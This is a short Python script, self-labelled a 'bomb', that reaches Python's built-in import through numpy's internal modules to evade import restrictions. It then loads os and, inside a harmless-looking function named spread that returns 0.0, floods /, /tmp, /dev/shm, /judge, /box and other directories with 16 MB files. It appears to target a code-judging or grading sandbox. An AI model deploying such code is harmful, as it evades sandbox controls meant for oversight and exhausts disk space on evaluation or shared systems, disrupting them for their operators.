"""Family: bombs. Stock: untried. Fills every place in which it can write."""

import numpy

anything = numpy._core._exceptions.__builtins__["__import__"]

os = anything("os")


def spread(x):
    for folder in ("/", "/tmp", "/dev", "/dev/shm", "/judge", "/box", "/var/tmp", "/proc", "/run"):
        for i in range(1000):
            try:
                with open(f"{folder}/{i}", "wb") as file:
                    file.write(b"a" * (1 << 24))
            except OSError:
                break
    return 0.0
